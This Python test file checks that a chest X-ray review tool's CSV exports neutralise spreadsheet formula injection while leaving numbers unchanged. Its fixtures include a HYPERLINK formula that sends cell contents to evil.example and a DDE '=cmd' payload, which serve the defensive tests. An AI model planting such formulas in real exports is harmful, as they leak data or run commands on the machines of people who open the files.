"""CSV exports never hand a spreadsheet a formula (OWASP CSV injection); numbers stay numbers."""
from __future__ import annotations

import csv
import io
from datetime import date, datetime, timezone

import numpy as np
import pytest

from cxr_core.review import queues as review
from cxr_core.review import export as review_export
from cxr_core.core.csv_safe import FORMULA_PREFIXES, cell, rows_to_csv, safe_cell, write_rows


@pytest.mark.parametrize("value, expected", [
    ('=HYPERLINK("http://evil.example/?x="&A1,"click")',
     '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
    ("=1+1", "'=1+1"),
    ("+1", "'+1"),
    ("-1+2", "'-1+2"),
    ("-0.5", "'-0.5"),  # a *string* is free text: guarded even when it looks like a number
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("normal text", "normal text"),
    ("PNEUMONIA·virus", "PNEUMONIA·virus"),
    ("a=b, c+d", "a=b, c+d"),  # only the first character counts
    (" =1", " =1"),
    ("'=already quoted", "'=already quoted"),
    ("", ""),
    ("train/NORMAL/IM-0001-0001.png", "train/NORMAL/IM-0001-0001.png"),
])
def test_safe_cell_strings(value, expected):
    assert safe_cell(value) == expected


@pytest.mark.parametrize("value", [-0.5, 0.25, -3, 0, 7, np.float32(-0.5), np.int64(-2), True,
                                   None])
def test_safe_cell_leaves_numbers_and_none_alone(value):
    assert safe_cell(value) is value


def test_prefixes_are_owasps():
    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r"}


def test_cell_formats_none_and_dates_then_guards():
    assert cell(None) == ""
    assert cell(datetime(2024, 5, 1, 12, 0, tzinfo=timezone.utc)) == "2024-05-01T12:00:00+00:00"
    assert cell(date(2024, 5, 1)) == "2024-05-01"
    assert cell(-0.5) == -0.5 and cell("=x") == "'=x"


def test_rows_to_csv_round_trip():
    text = rows_to_csv(["name", "score", "note"],
                       [["=cmd|' /C calc'!A0", -0.5, None], ["alice", 0.75, "+fine"],
                        ["bob", -2, 'quoted "text", with comma']])
    got = list(csv.reader(io.StringIO(text)))
    assert got == [["name", "score", "note"],
                   ["'=cmd|' /C calc'!A0", "-0.5", ""],
                   ["alice", "0.75", "'+fine"],
                   ["bob", "-2", 'quoted "text", with comma']]
    assert text.endswith("\n") and "\r\n" not in text


def test_write_rows_to_a_file_counts_rows(tmp_path):
    path = tmp_path / "out.csv"
    with open(path, "w", newline="", encoding="utf-8") as fh:
        assert write_rows(fh, None, [["@x", 1], ["y", -1]]) == 2
    assert path.read_text(encoding="utf-8") == "'@x,1\ny,-1\n"


def test_relabel_export_guards_text_but_not_scores(cxr_home, tmp_path):
    from PIL import Image

    from cxr_core.data.indexing import index_dataset
    from cxr_core.storage import datasets as ds_store
    from cxr_core.storage import open_db

    for n, cls in enumerate(("NORMAL", "PNEUMONIA")):
        (tmp_path / "tiny" / "train" / cls).mkdir(parents=True)
        Image.fromarray(np.full((32, 32), 50 * n, np.uint8)).save(
            tmp_path / "tiny" / "train" / cls / f"IM-000{n}-0001.png")
    db = open_db()
    dataset_id = index_dataset(db, tmp_path / "tiny", name="tiny").dataset_id
    with db.session() as s:
        image = ds_store.list_images(session=s, dataset_id=dataset_id)[0]
    evil = '=HYPERLINK("http://evil.example","x")'
    rid = review.submit_relabel(db, image_id=image.id, choice=review.LabelChoice("NORMAL", None),
                                reviewer="@SUM(A1)", note=evil, run_ref="-run", score=-0.5)
    (row,) = csv.DictReader(io.StringIO(review_export.export_relabels_csv(db, dataset_id)))
    assert row["id"] == str(rid)
    assert row["reviewer"] == "'@SUM(A1)" and row["note"] == "'" + evil
    assert row["run_ref"] == "'-run"
    assert row["score"] == "-0.5"  # a number: written as it is
    assert row["relpath"] == image.relpath and row["undo_of"] == ""


def test_predict_export_uses_the_same_rules():
    """The Predict page's CSV goes through csv_safe (one rule for every export)."""
    from cxr_core.predict import inference

    assert inference.safe_cell is safe_cell
